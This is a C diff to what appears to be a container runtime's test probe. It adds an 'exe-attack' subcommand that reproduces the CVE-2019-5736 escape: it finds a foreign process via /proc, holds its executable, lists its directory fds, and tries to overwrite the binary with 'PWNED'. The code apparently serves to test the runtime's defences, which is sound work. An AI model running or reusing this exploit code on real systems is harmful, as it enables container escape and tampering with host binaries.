@@ -38,12 +38,11 @@ struct name_num {
 };
 
 static const struct name_num errnos[] = {
-	{ "EPERM", EPERM },	{ "ENOENT", ENOENT }, { "EIO", EIO },
-	{ "ENXIO", ENXIO },	{ "EBADF", EBADF },   { "EACCES", EACCES },
-	{ "EBUSY", EBUSY },	{ "EEXIST", EEXIST }, { "ENODEV", ENODEV },
-	{ "ENOTDIR", ENOTDIR }, { "EISDIR", EISDIR }, { "EINVAL", EINVAL },
-	{ "ENOSPC", ENOSPC },	{ "EROFS", EROFS },   { "ELOOP", ELOOP },
-	{ "ENOTTY", ENOTTY },	{ "ENOSYS", ENOSYS }, { NULL, 0 },
+	{ "EPERM", EPERM },   { "ENOENT", ENOENT },   { "EIO", EIO },	    { "ENXIO", ENXIO },
+	{ "EBADF", EBADF },   { "EACCES", EACCES },   { "EBUSY", EBUSY },   { "EEXIST", EEXIST },
+	{ "ENODEV", ENODEV }, { "ENOTDIR", ENOTDIR }, { "EISDIR", EISDIR }, { "EINVAL", EINVAL },
+	{ "ENOSPC", ENOSPC }, { "EROFS", EROFS },     { "ELOOP", ELOOP },   { "ENOTTY", ENOTTY },
+	{ "ENOSYS", ENOSYS }, { "ETXTBSY", ETXTBSY }, { NULL, 0 },
 };
 
 static const struct name_num signals[] = {
@@ -832,6 +831,118 @@ static int do_seccomp_agent(char **argv)
 	}
 }
 
+/* The first process that is not a probe (a runt joining the container), or 0. */
+static pid_t find_stranger(const char *self)
+{
+	char path[64], link[PATH_MAX];
+	DIR *d = opendir("/proc");
+	struct dirent *e;
+	pid_t pid = 0;
+
+	while (d && !pid && (e = readdir(d))) {
+		int p = atoi(e->d_name);
+		ssize_t n;
+
+		if (p <= 0 || p == getpid())
+			continue;
+		snprintf(path, sizeof(path), "/proc/%d/exe", p);
+		n = readlink(path, link, sizeof(link) - 1);
+		if (n > 0 && (link[n] = '\0', strcmp(link, self)))
+			pid = p;
+	}
+	if (d)
+		closedir(d);
+	return pid;
+}
+
+/* Every fd of pid (attack.fd.N=target); for a directory (attack.dirfd=) also what lies two
+ * levels above it (attack.updir=). */
+static void print_dir_fds(pid_t pid)
+{
+	char dir[64], path[PATH_MAX], link[PATH_MAX];
+	struct dirent *e, *u;
+	struct stat st;
+	DIR *d, *up;
+
+	snprintf(dir, sizeof(dir), "/proc/%d/fd", (int)pid);
+	if (!(d = opendir(dir)))
+		return;
+	while ((e = readdir(d))) {
+		ssize_t n;
+
+		snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
+		n = readlink(path, link, sizeof(link) - 1);
+		if (e->d_name[0] == '.' || n < 0)
+			continue;
+		printf("attack.fd.%s=%.*s\n", e->d_name, (int)n, link);
+		if (stat(path, &st) < 0 || !S_ISDIR(st.st_mode))
+			continue;
+		printf("attack.dirfd=%.*s\n", (int)n, link);
+		strcat(path, "/../..");
+		if (!(up = opendir(path)))
+			continue;
+		printf("attack.updir=");
+		while ((u = readdir(up)))
+			printf("%s ", u->d_name);
+		printf("\n");
+		closedir(up);
+	}
+	closedir(d);
+}
+
+/* Reopen the exe fd for writing once no runt maps it any more (ETXTBSY until then). */
+static void try_write(int fd, int flags, const char *key, time_t end)
+{
+	char path[64];
+	int w;
+
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+	while ((w = open(path, flags | O_CLOEXEC)) < 0 && errno == ETXTBSY && time(NULL) < end)
+		usleep(10000);
+	if (w < 0) {
+		print_error(key, errno);
+		return;
+	}
+	printf("%s=ok\n", key);
+	if (pwrite(w, "PWNED", 5, 0) == 5)
+		printf("attack.write=ok\n");
+	else
+		print_error("attack.write", errno);
+	close(w);
+}
+
+/* CVE-2019-5736 from inside (needs CAP_SYS_PTRACE): watch /proc for a process that is not
+ * a probe, hold its exe with O_PATH, list its directory fds, then try to write its binary. */
+static int do_exe_attack(char **argv)
+{
+	time_t end = time(NULL) + atoi(argv[0]);
+	char self[PATH_MAX], path[64];
+	ssize_t n = readlink("/proc/self/exe", self, sizeof(self) - 1);
+	pid_t pid;
+	int fd = -1;
+
+	self[n > 0 ? n : 0] = '\0';
+	printf("attack=ready\n");
+	while (fd < 0 && time(NULL) < end) {
+		if (!(pid = find_stranger(self)))
+			continue;
+		print_dir_fds(pid);
+		snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
+		fd = open(path, O_PATH | O_CLOEXEC);
+	}
+	if (fd < 0) {
+		printf("attack.found=0\n");
+		return 0;
+	}
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+	n = readlink(path, self, sizeof(self) - 1);
+	printf("attack.exe=%.*s\n", n > 0 ? (int)n : 0, self);
+	try_write(fd, O_WRONLY, "attack.wronly", end);
+	try_write(fd, O_RDWR, "attack.rdwr", end);
+	printf("attack.done=1\n");
+	return 0;
+}
+
 struct subcmd {
 	const char *name;
 	int nargs; /* -1: takes the rest of the command line */
@@ -877,6 +988,8 @@ static const struct subcmd subcmds[] = {
 	{ "notify-recv", 2, do_notify_recv, "PATH N: receive N datagrams at PATH, notify=LINE" },
 	{ "syscall", 3, do_syscall, "NAME A0 A1: syscall.NAME=result or error ERRNO" },
 	{ "seccomp-agent", 2, do_seccomp_agent, "SOCK OUT: a NOTIFY agent answering ENOTTY" },
+	{ "exe-attack", 1, do_exe_attack,
+	  "SECONDS: hold a non-probe's exe, list its dir fds, then write it" },
 	{ NULL, 0, NULL, NULL },
 };
 
